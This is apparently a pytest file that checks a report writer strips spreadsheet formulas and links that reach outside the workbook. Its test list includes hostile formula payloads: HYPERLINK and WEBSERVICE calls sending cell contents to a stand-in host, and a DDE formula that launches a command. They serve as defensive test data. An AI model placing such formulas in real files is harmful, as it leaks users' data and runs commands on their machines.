"""Nothing in the copy that we hand back acts by itself: formulas that reach out, links."""

import openpyxl
import pytest
import xlsxwriter

from svc_atlas.records import report
from tests.records.test_report import LOST, read, words

REACHING = [
    '=HYPERLINK("http://example.test/"&A1,"5")',
    '=hyperlink("http://example.test","5")',
    '=IF(1,HYPERLINK("http://example.test","5"),5)',
    '=_xlfn.WEBSERVICE("http://example.test/"&A1)',
    "=[1]other!A1",
    "=cmd|' /c calc'!A0",
    '=INDIRECT("A"&1)',
    '=_xlfn.IMAGE("http://example.test")',
    "=anything(1)",
    "=some_name",
]
COMPUTING = ["=SUM(A1:A2)", "=A1*100/A2", '=IF(A1>0,"more","none")', "=ROUND(offences!A1/3,1)"]


@pytest.fixture
def copied(tmp_path):
    """Return the copy of a workbook with formulas, each in a row of column B."""

    def copied_(formulas):
        path = tmp_path / "02.xlsx"
        with xlsxwriter.Workbook(path) as book:
            sheet = book.add_worksheet("offences")
            sheet.write_column("A1", [1, 2])
            for row, formula in enumerate(formulas):
                sheet.write_formula(row, 1, formula, None, 5)
            sheet.write_url("D1", "https://example.test/x", string="see")
            sheet.write_url("D2", "internal:offences!A1", string="there")
        out = report.write(read(path), [], tmp_path / "out.xlsx", lang="en")
        return openpyxl.load_workbook(out)

    return copied_


def test_a_formula_that_reaches_out_stands_as_its_result(copied):
    book = copied(REACHING)
    cells = [book["offences"].cell(row, 2) for row in range(1, len(REACHING) + 1)]
    assert [(cell.value, cell.data_type) for cell in cells] == [(5, "n")] * len(REACHING)
    assert f"{len(REACHING)} formulas that reach out" in words(book[LOST])


def test_a_formula_that_computes_stays(copied):
    book = copied(COMPUTING)
    cells = [book["offences"].cell(row, 2) for row in range(1, len(COMPUTING) + 1)]
    assert [cell.value for cell in cells] == COMPUTING
    assert all(cell.data_type == "f" for cell in cells)


def test_links_out_of_the_workbook_are_taken_and_those_within_stay(copied):
    book = copied([])
    sheet = book["offences"]
    assert (sheet["D1"].value, sheet["D1"].hyperlink) == ("see", None)
    assert sheet["D2"].hyperlink.location == "offences!A1"
    assert "1 link that leads out" in words(book[LOST])


def test_a_formula_without_a_result_is_its_text(tmp_path):
    path, book = tmp_path / "02.xlsx", openpyxl.Workbook()
    book.active.append(["code", '=HYPERLINK("http://example.test","5")'])
    book.save(path)
    out = report.write(read(path), [], tmp_path / "out.xlsx", lang="en")
    cell = openpyxl.load_workbook(out)["Sheet"]["B1"]
    assert cell.data_type == "s"
    assert cell.value.startswith("=HYPERLINK")
